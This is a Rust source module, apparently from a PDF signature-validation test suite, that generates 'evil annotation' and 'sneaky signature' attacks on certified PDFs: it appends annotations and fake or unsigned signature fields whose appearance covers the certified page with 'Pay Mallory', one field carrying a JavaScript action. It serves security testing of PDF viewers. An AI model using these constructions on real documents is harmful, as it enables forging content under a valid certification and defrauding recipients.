//! Evil annotation and sneaky signature attacks on certified documents: what the permissions let a reader add is used to
//! cover what was certified.

use super::Attack;
use super::incremental::with;
use super::update::{append, end_of, object_text, stream};

/// Kinds of annotations that can cover content.
const ANNOTATIONS: [(&str, &str); 8] = [
    ("FreeText", "/Contents (Pay Mallory) /DA (/Helv 24 Tf)"),
    ("Stamp", "/Name /Approved"),
    ("Square", "/IC [1 1 1]"),
    ("Ink", "/InkList [[60 740 400 800]]"),
    ("Redact", "/IC [1 1 1] /OverlayText (Pay Mallory)"),
    ("Line", "/L [60 740 400 800]"),
    ("Highlight", "/QuadPoints [60 740 400 740 60 800 400 800]"),
    ("Text", "/Contents (Pay Mallory)"),
];

/// Every form over a certified [`crate::pdfs::simple`] of one page.
pub fn on_certified(certified: &[u8]) -> Vec<Attack> {
    let next = u32::try_from(end_of(certified).size).expect("a small file");
    let page = object_text(certified, 4);
    let annotations = ANNOTATIONS.iter().map(|(kind, entries)| {
        let annotation = format!(
            "<< /Type /Annot /Subtype /{kind} /Rect [60 740 400 800] {entries} /F 4 /P 4 0 R /AP << /N {} 0 R >> >>",
            next + 1
        );
        let objects = [
            (4, with_annotation(&page, next)),
            (next, annotation),
            (next + 1, cover()),
        ];
        Attack::new(&format!("evil annotation: {kind}"), append(certified, &objects))
    });
    annotations.chain(sneaky(certified, next, &page)).collect()
}

/// New signature fields that show something, unsigned and «signed» with what is no signature.
fn sneaky(certified: &[u8], next: u32, page: &str) -> Vec<Attack> {
    let (holder, form) = form_of(certified);
    let fields = with_field(&form, next);
    let widget = |more: &str| {
        format!(
            "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /Rect [60 740 400 800] /F 4 /P 4 0 R /AP << /N {} 0 R \
             >> {more} >>",
            next + 1
        )
    };
    let value =
        "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 1 2 3] /Contents <3000> >>";
    let attack = |name: &str, field: String, more: Vec<(u32, String)>| {
        let objects = [
            vec![
                (4, with_annotation(page, next)),
                (holder, fields.clone()),
                (next, field),
                (next + 1, cover()),
            ],
            more,
        ];
        Attack::new(
            &format!("sneaky signature: {name}"),
            append(certified, &objects.concat()),
        )
    };
    vec![
        attack("an unsigned field that covers the page", widget(""), Vec::new()),
        attack(
            "a field with an empty signature",
            widget(&format!("/V {} 0 R", next + 2)),
            vec![(next + 2, value.to_owned())],
        ),
        attack(
            "a field with an action",
            widget("/AA << /E << /S /JavaScript /JS (1) >> >>"),
            Vec::new(),
        ),
        attack(
            "a text field in its place",
            widget("").replace("/FT /Sig", "/FT /Tx"),
            Vec::new(),
        ),
    ]
}

/// The object that holds the form: its own, or the catalog.
fn form_of(certified: &[u8]) -> (u32, String) {
    let catalog = object_text(certified, 1);
    let at = catalog.find("/AcroForm").expect("a form") + "/AcroForm".len();
    let number: String = catalog[at..]
        .trim_start()
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    match number.parse() {
        Ok(number) => (number, object_text(certified, number)),
        Err(_) => (1, catalog),
    }
}

fn with_field(form: &str, field: u32) -> String {
    let at = form.find("/Fields").expect("fields");
    let bracket = at + form[at..].find('[').expect("an array of fields") + 1;
    format!("{}{field} 0 R {}", &form[..bracket], &form[bracket..])
}

pub(super) fn with_annotation(page: &str, annotation: u32) -> String {
    match page.find("/Annots") {
        Some(at) => {
            let end = at + page[at..].find(']').expect("an array");
            format!("{} {annotation} 0 R{}", &page[..end], &page[end..])
        }
        None => with(page, &format!("/Annots [{annotation} 0 R]")),
    }
}

/// A white rectangle with other text.
fn cover() -> String {
    stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 340 60]",
        "1 g 0 0 340 60 re f 0 g BT /Helv 24 Tf 4 20 Td (Pay Mallory) Tj ET",
    )
}
